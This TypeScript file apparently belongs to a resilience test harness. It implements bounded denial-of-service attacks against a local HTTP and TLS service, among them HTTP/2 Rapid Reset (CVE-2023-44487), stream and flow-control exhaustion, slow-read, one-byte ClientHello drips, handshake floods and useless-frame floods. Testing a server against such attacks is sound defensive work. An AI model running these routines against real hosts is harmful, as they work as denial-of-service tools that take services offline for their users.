/** The attacks, each bounded in number, time and bytes; they run in the process of attacker.ts. */
import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import { type ConnectionOptions, connect as connectTls, type TLSSocket } from 'node:tls';
import {
  initialWindowSize,
  openHttp2,
  pingFrame,
  requestFrame,
  resetFrame,
  settingsFrame,
  windowUpdateFrame,
} from './http2-attacker.ts';
import { dripRecords, ordinaryHello } from './tls-attacker.ts';

export interface Target {
  readonly httpPort: number;
  readonly httpsPort: number;
}

interface Pipelined extends Target {
  readonly path: string;
  readonly coding: string;
  readonly requests: number;
  readonly connections: number;
  readonly holdMs: number;
  readonly isRead?: boolean;
  readonly addresses?: number;
}

export const addressOf = (at: number): string => `127.0.1.${(at % 250) + 1}`;

export function openPlain(port: number, from: string): Promise<Socket> {
  return new Promise((resolve) => {
    const socket = connect({ host: '127.0.0.1', port, localAddress: from }, () => resolve(socket));
    socket.on('error', () => resolve(socket));
  });
}

/** Resolves when all sockets are closed; returns when each was, in ms since the start, or null. */
async function closingTimes(sockets: readonly (Socket | TLSSocket)[], limitMs: number): Promise<(number | null)[]> {
  const startedMs = performance.now();
  return Promise.all(
    sockets.map((socket) =>
      socket.closed || socket.destroyed
        ? 0
        : Promise.race([
            new Promise<number>((resolve) => socket.once('close', () => resolve(performance.now() - startedMs))),
            delay(limitMs, null, { ref: false }),
          ]),
    ),
  );
}

/** Calls `onStatus` for each response, even if the end of a chunk cuts its status line. */
export function readStatuses(socket: Socket, onStatus: (status: string) => void): void {
  let rest = '';
  socket.on('data', (chunk: Buffer) => {
    const text = rest + chunk.toString('latin1');
    let end = 0;
    for (const match of text.matchAll(/HTTP\/1\.1 (\d{3})/g)) {
      onStatus(match[1] ?? '');
      end = match.index + match[0].length;
    }
    rest = text.slice(Math.max(end, text.length - 'HTTP/1.1 20'.length));
  });
}

/** Sends many concurrent requests on each connection and reads nothing, or everything. */
export async function pipelineRequests(attack: Pipelined) {
  const { path, coding, requests, connections, holdMs, isRead = false, addresses = 1 } = attack;
  const codingLine = coding === '' ? '' : `Accept-Encoding: ${coding}\r\n`;
  const bytes = Buffer.from(`GET ${path} HTTP/1.1\r\nHost: a\r\n${codingLine}\r\n`.repeat(requests));
  const sockets = await Promise.all(
    Array.from({ length: connections }, (_, at) => openPlain(attack.httpPort, addressOf(at % addresses))),
  );
  let responses = 0;
  for (const socket of sockets) {
    if (isRead)
      readStatuses(socket, (status) => {
        if (status === '200') responses += 1;
      });
    else socket.pause();
    socket.write(bytes);
  }
  const startedMs = performance.now();
  while (performance.now() - startedMs < holdMs && !(isRead && responses >= requests * connections)) await delay(20);
  const elapsedMs = performance.now() - startedMs;
  for (const socket of sockets) socket.destroy();
  return { responses, elapsedMs };
}

interface Streams extends Target {
  readonly path: string;
  readonly coding: string;
  readonly connections: number;
  readonly streams: number;
  readonly windowBytes: number;
  readonly holdMs: number;
  readonly pingMs?: number;
}

/** Opens many streams on each connection and grants no more window than at the start; with PINGs it shows signs of life. */
export async function openStreams({
  path,
  coding,
  connections,
  streams,
  windowBytes,
  holdMs,
  pingMs = 0,
  httpsPort,
}: Streams) {
  const settings = settingsFrame([initialWindowSize, windowBytes]);
  const opened = await Promise.all(
    Array.from({ length: connections }, () => openHttp2(httpsPort, addressOf(0), settings)),
  );
  const sockets = opened.filter((socket) => socket !== null);
  for (const socket of sockets) {
    socket.resume();
    if (windowBytes > 0) socket.write(windowUpdateFrame(0, 0x7fff_0000));
    const frames = Array.from({ length: streams }, (_, at) => requestFrame(2 * at + 1, path, at === 0, coding));
    socket.write(Buffer.concat(frames));
  }
  const timer =
    pingMs === 0
      ? null
      : setInterval(() => {
          for (const socket of sockets) if (socket.writable) socket.write(pingFrame());
        }, pingMs);
  const closedMs = await closingTimes(sockets, holdMs);
  if (timer !== null) clearInterval(timer);
  for (const socket of sockets) socket.destroy();
  return { opened: sockets.length, closedMs };
}

interface Reset extends Target {
  readonly path: string;
  readonly coding: string;
  readonly connections: number;
  readonly addresses: number;
  readonly durationMs: number;
  /** Connections that it opens at least, even if that takes longer. */
  readonly leastOpened: number;
}

/** HEADERS and RST_STREAM in pairs, as fast as the service takes them (CVE-2023-44487), over new connections when it closes one. */
export async function resetRapidly({
  path,
  coding,
  connections,
  addresses,
  leastOpened,
  durationMs,
  httpsPort,
}: Reset) {
  const startMs = performance.now();
  let pairs = 0;
  let opened = 0;
  const isOver = (): boolean => {
    const elapsedMs = performance.now() - startMs;
    return elapsedMs > (opened < leastOpened ? 10 * durationMs : durationMs);
  };
  const run = async (at: number): Promise<void> => {
    while (!isOver()) {
      const socket = await openHttp2(httpsPort, addressOf(at % addresses), settingsFrame());
      if (socket === null) {
        await delay(20);
        continue;
      }
      opened += 1;
      socket.resume();
      let stream = 1;
      while (!socket.destroyed && socket.writable && !isOver()) {
        const frames: Buffer[] = [];
        for (let each = 0; each < 500; each += 1, stream += 2)
          frames.push(requestFrame(stream, path, stream === 1, coding), resetFrame(stream));
        pairs += 500;
        if (!socket.write(Buffer.concat(frames)))
          await Promise.race([once(socket, 'drain'), once(socket, 'close'), delay(500)]).catch(() => {});
        else await delay(1);
      }
      socket.destroy();
    }
  };
  await Promise.all(Array.from({ length: connections }, (_, at) => run(at)));
  return { pairs, opened };
}

interface SlowReader extends Target {
  readonly path: string;
  readonly requests: number;
  readonly connections: number;
  readonly bytesPerSecond: number;
  readonly holdMs: number;
}

/** Pipelines requests and reads a few bytes per second. */
export async function readSlowly({ path, requests, connections, bytesPerSecond, holdMs, httpPort }: SlowReader) {
  const bytes = Buffer.from(`GET ${path} HTTP/1.1\r\nHost: a\r\n\r\n`.repeat(requests));
  const sockets = await Promise.all(Array.from({ length: connections }, () => openPlain(httpPort, addressOf(0))));
  for (const socket of sockets) {
    socket.pause();
    socket.write(bytes);
  }
  const timer = setInterval(() => {
    for (const socket of sockets) socket.read(Math.min(bytesPerSecond, socket.readableLength) || undefined);
  }, 1000);
  // A paused socket reports the end only when it is read: writing detects the service's side instead.
  const startedMs = performance.now();
  const closedMs = await Promise.all(
    sockets.map(async (socket) => {
      while (performance.now() - startedMs < holdMs) {
        if (socket.destroyed || socket.closed) return performance.now() - startedMs;
        socket.write('\r\n');
        await delay(500);
      }
      return null;
    }),
  );
  clearInterval(timer);
  for (const socket of sockets) socket.destroy();
  return { closedMs };
}

interface Hellos extends Target {
  readonly connections: number;
  readonly bytesPerTick: number;
  readonly tickMs: number;
  readonly durationMs: number;
}

/** Sends a 16 KB ClientHello in records of one byte, in small portions. */
export async function dripHellos({ connections, bytesPerTick, tickMs, durationMs, httpsPort }: Hellos) {
  const records = dripRecords(await ordinaryHello(), 16_000);
  const sockets = await Promise.all(
    Array.from({ length: connections }, (_, at) => openPlain(httpsPort, addressOf(at))),
  );
  for (const socket of sockets) socket.setNoDelay(true).resume();
  let sent = 0;
  const endMs = performance.now() + durationMs;
  while (performance.now() < endMs && sent < records.length) {
    for (const socket of sockets) if (socket.writable) socket.write(records.subarray(sent, sent + bytesPerTick));
    sent += bytesPerTick;
    await delay(tickMs);
  }
  const open = sockets.filter((socket) => !socket.destroyed).length;
  for (const socket of sockets) socket.destroy();
  return { sent, open };
}

interface Handshakes extends Target {
  readonly atOnce: number;
  /** Attempts at least, even if they take longer. */
  readonly least: number;
  readonly durationMs: number;
  readonly from?: string;
}

/** Makes one TLS handshake after another from one address. */
export async function shakeHands({ atOnce, least, durationMs, httpsPort, from = addressOf(0) }: Handshakes) {
  const startedMs = performance.now();
  let done = 0;
  let rejected = 0;
  const run = async (): Promise<void> => {
    while (performance.now() - startedMs < durationMs || done + rejected < least) {
      const isDone = await new Promise<boolean>((resolve) => {
        const socket = connectTls(
          { host: '127.0.0.1', port: httpsPort, localAddress: from, rejectUnauthorized: false } as ConnectionOptions,
          () => {
            socket.destroy();
            resolve(true);
          },
        );
        socket.on('error', () => resolve(false)).on('close', () => resolve(false));
      });
      if (isDone) done += 1;
      else rejected += 1;
    }
  };
  await Promise.all(Array.from({ length: atOnce }, run));
  return { done, rejected, elapsedMs: performance.now() - startedMs };
}

interface UselessFrames extends Target {
  readonly connections: number;
  readonly framesPerSecond: number;
  readonly holdMs: number;
}

/** Sends PING and WINDOW_UPDATE without a request. */
export async function sendUselessFrames({ connections, framesPerSecond, holdMs, httpsPort }: UselessFrames) {
  const tickMs = 50;
  const frames = Buffer.concat(
    Array.from({ length: (framesPerSecond * tickMs) / 1000 }, (_, at) =>
      at % 10 === 0 ? pingFrame() : windowUpdateFrame(0, 1),
    ),
  );
  const opened = await Promise.all(
    Array.from({ length: connections }, () => openHttp2(httpsPort, addressOf(0), settingsFrame())),
  );
  const sockets = opened.filter((socket) => socket !== null);
  // The service waits for the first request of a connection for a moment.
  for (const socket of sockets) socket.resume().write(requestFrame(1, '/ip', true));
  const timer = setInterval(() => {
    for (const socket of sockets) if (socket.writable && !socket.writableNeedDrain) socket.write(frames);
  }, tickMs);
  const closedMs = await closingTimes(sockets, holdMs);
  clearInterval(timer);
  for (const socket of sockets) socket.destroy();
  return { closedMs };
}

interface SlowAcceptor extends Target {
  readonly path: string;
  readonly bytesPerSecond: number;
  readonly holdMs: number;
}

/** Requests a page over HTTP/2 and grants a small window every second, as a client does that reads slowly. */
export async function acceptSlowly({ path, bytesPerSecond, holdMs, httpsPort }: SlowAcceptor) {
  const socket = await openHttp2(httpsPort, addressOf(0), settingsFrame([initialWindowSize, bytesPerSecond]));
  let receivedBytes = 0;
  socket?.on('data', (chunk: Buffer) => {
    receivedBytes += chunk.length;
  });
  socket?.write(requestFrame(1, path, true));
  const timer = setInterval(() => {
    if (socket?.writable)
      socket.write(Buffer.concat([windowUpdateFrame(0, bytesPerSecond), windowUpdateFrame(1, bytesPerSecond)]));
  }, 1000);
  const [closedMs] = await closingTimes(socket === null ? [] : [socket], holdMs);
  clearInterval(timer);
  const isOpen = closedMs === null;
  socket?.destroy();
  return { isOpen, receivedBytes };
}
